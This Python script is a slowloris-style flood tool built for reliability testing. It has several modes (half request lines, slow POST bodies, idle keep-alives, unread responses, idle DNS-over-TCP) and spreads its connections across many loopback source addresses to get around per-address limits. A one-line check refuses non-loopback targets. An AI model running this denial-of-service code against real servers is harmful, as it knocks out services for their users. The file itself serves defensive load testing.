#!/usr/bin/env python3
"""A slowloris flood for the reliability tests: holds many TCP connections to a target, each
sending half a request line (or nothing), and re-creates the ones the server closed, as the
original slowloris does, at most RATE a second (an attacker's budget of new connections; the
first CONNECTIONS are opened at once).

    slowloris.py HOST:PORT CONNECTIONS SECONDS [--sources 127.0.1.1-127.0.1.100] [--silent]
                 [--rate RATE] [--mode MODE [--path PATH]]

MODE says what each connection does once open:
  header    half a request line, then nothing (the default; --silent: not even that)
  body      a POST head to PATH with a 4,000-byte Content-Length, then one body byte every
            5 s (--every SECONDS): a slow upload that resets any timer kept between reads
  idle      one complete GET of PATH, its answer read, then an idle keep-alive connection
  noread    a GET of PATH with a 4 KiB receive buffer, whose answer is never read
  dns-idle  one DNS query over TCP (www.example.com A), its answer read, then idle

Connections are spread over the source addresses (all of 127.0.0.0/8 is local), so a per-address
cap alone cannot stop it. Prints one JSON line at the end: how many connections were opened, how
many the server closed or refused, and the most held at once. Loopback only: it refuses any
other target.
"""

import ipaddress
import json
import selectors
import socket
import sys
import time


def sources(spec):
    first, _, last = spec.partition("-")
    a, b = int(ipaddress.ip_address(first)), int(ipaddress.ip_address(last or first))
    return [str(ipaddress.ip_address(i)) for i in range(a, b + 1)]


def dns_query():
    """www.example.com A, framed for TCP."""
    name = b"".join(bytes([len(p)]) + p for p in b"www.example.com".split(b".")) + b"\0"
    msg = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00" + name + b"\x00\x01\x00\x01"
    return len(msg).to_bytes(2, "big") + msg


def main():
    target, count, seconds = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
    host, _, port = target.rpartition(":")
    if not ipaddress.ip_address(host).is_loopback:
        sys.exit("slowloris.py floods loopback targets only")
    src = ["127.0.0.1"]
    silent = "--silent" in sys.argv
    if "--sources" in sys.argv:
        src = sources(sys.argv[sys.argv.index("--sources") + 1])
    mode = sys.argv[sys.argv.index("--mode") + 1] if "--mode" in sys.argv else "header"
    path = sys.argv[sys.argv.index("--path") + 1] if "--path" in sys.argv else "/healthz"
    every = float(sys.argv[sys.argv.index("--every") + 1]) if "--every" in sys.argv else 5.0
    payload = {
        "header": b"" if silent else b"GET /healthz HTTP/1.1\r\nHost: flood\r\nX-Slow: ",
        "body": b"POST " + path.encode() + b" HTTP/1.1\r\nHost: flood\r\n"
        b"Content-Type: application/json\r\nContent-Length: 4000\r\n\r\n{",
        "idle": b"GET " + path.encode() + b" HTTP/1.1\r\nHost: flood\r\n\r\n",
        "noread": b"GET " + path.encode() + b" HTTP/1.1\r\nHost: flood\r\n\r\n",
        "dns-idle": dns_query(),
    }[mode]
    last_byte = {}
    rate = float(sys.argv[sys.argv.index("--rate") + 1]) if "--rate" in sys.argv else 5000.0
    round_s = 0.1
    sel = selectors.DefaultSelector()
    stats = {"opened": 0, "closed_by_server": 0, "failed": 0, "most_open": 0}
    live = 0
    n = 0
    held = []
    deadline = time.monotonic() + seconds

    def open_one():
        nonlocal live, n
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        if mode == "noread":
            # A small window: the server's sends stop after a few KiB, as with a client that
            # never reads.
            s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        try:
            s.bind((src[n % len(src)], 0))
            n += 1
            s.setblocking(False)
            s.connect_ex((host, int(port)))
            sel.register(s, selectors.EVENT_WRITE, "connecting")
            live += 1
        except OSError:
            stats["failed"] += 1
            s.close()

    while live < count and time.monotonic() < deadline:
        open_one()
    next_round = time.monotonic() + round_s
    while time.monotonic() < deadline:
        for key, _ in sel.select(timeout=0.2):
            s = key.fileobj
            if key.data == "connecting":
                if s.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) != 0:
                    stats["failed"] += 1
                    sel.unregister(s)
                    s.close()
                    live -= 1
                    continue
                stats["opened"] += 1
                try:
                    if payload:
                        s.send(payload)
                except OSError:
                    pass
                last_byte[s] = time.monotonic()
                if mode == "noread":
                    # Never read; a peek would drain nothing, so only errors are watched.
                    sel.unregister(s)
                    held.append(s)
                else:
                    sel.modify(s, selectors.EVENT_READ, "open")
            else:
                try:
                    data = s.recv(4096)
                except OSError:
                    data = b""
                if not data:
                    stats["closed_by_server"] += 1
                    sel.unregister(s)
                    last_byte.pop(s, None)
                    s.close()
                    live -= 1
        if mode == "body":
            now = time.monotonic()
            for s, at in list(last_byte.items()):
                if now - at >= every:
                    last_byte[s] = now
                    try:
                        s.send(b" ")
                    except OSError:
                        pass
        if mode == "noread":
            for s in list(held):
                err = s.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR)
                if err:
                    stats["closed_by_server"] += 1
                    held.remove(s)
                    s.close()
                    live -= 1
        stats["most_open"] = max(stats["most_open"], live)
        if time.monotonic() >= next_round:
            next_round += round_s
            budget = int(rate * round_s)
            while live < count and budget > 0 and time.monotonic() < deadline:
                open_one()
                budget -= 1
    for key in list(sel.get_map().values()):
        key.fileobj.close()
    for s in held:
        s.close()
    print(json.dumps(stats))


if __name__ == "__main__":
    main()
